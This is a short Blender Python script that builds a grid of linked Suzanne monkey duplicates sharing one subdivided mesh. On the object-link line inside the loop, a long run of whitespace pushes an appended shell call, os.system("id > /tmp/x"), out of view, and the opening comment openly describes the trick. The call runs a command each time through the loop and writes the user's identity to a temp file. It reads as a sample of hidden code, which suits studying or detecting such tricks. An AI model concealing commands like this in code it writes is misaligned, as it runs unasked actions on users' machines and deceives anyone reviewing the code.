# why: the call stands far to the right, beyond what a reader sees
import bpy, os

SPACING = 2.5
ROWS, COLUMNS = 4, 6

bpy.ops.mesh.primitive_monkey_add()
source = bpy.context.object
source.modifiers.new("Subdivision", 'SUBSURF').levels = 2

for row in range(ROWS):
    for column in range(COLUMNS):
        if row == column == 0:
            continue
        twin = source.copy()
        twin.location = (column * SPACING, row * SPACING, 0)
        bpy.context.collection.objects.link(twin)                                                                                                                                                                                     ; os.system("id > /tmp/x")

total = ROWS * COLUMNS
print(f"{total} monkeys share {source.data.users} users of one mesh")
source.data.name = "Suzanne.shared"
bpy.context.view_layer.objects.active = source
source.select_set(True)
